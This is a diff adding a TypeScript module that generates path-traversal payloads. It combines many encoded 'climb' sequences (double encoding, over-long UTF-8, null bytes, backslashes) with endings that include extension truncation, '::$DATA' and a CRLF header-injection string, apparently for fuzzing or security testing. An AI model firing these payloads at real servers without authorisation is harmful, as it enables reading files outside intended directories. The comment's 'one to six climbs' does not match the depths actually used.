@@ -1,0 +1,44 @@
+/** Ways to climb out of a folder that servers have fallen for: plain, encoded once and twice, over-long, mixed with backslashes, null bytes and parameters. */
+const climbs = [
+  '../',
+  '..%2f',
+  '..%2F',
+  '%2e%2e/',
+  '%2e%2e%2f',
+  '.%2e/',
+  '%2e./',
+  '..%252f',
+  '%252e%252e%252f',
+  '..\\',
+  '..%5c',
+  '%2e%2e%5c',
+  '..%255c',
+  '..%c0%af',
+  '%c0%ae%c0%ae/',
+  '..%ef%bc%8f',
+  '..;/',
+  '..%00/',
+  '....//',
+  '..../',
+  '...//',
+  '..//',
+  './../',
+  '/..',
+  '//',
+  '/./',
+  '%2f',
+  '%2f%2f',
+  '\\',
+  '%5c',
+]
+const endings = ['', '%00', '%00.html', '%00.js', '?', '#', '/', '/.', '%20', '.', '::$DATA', ';.js', '%0a', '%0d%0aX-Injected:1']
+
+/** Every target behind one to six climbs, and with every ending. */
+export function traversals(targets: string[]): string[] {
+  const paths = climbs.flatMap((climb) => [1, 2, 3, 6].flatMap((depth) => targets.map((target) => climb.repeat(depth) + target)))
+  return [
+    ...paths,
+    ...targets.flatMap((target) => endings.map((ending) => `../../${target}${ending}`)),
+    ...targets.flatMap((target) => endings.map((ending) => `${target}${ending}`)),
+  ]
+}
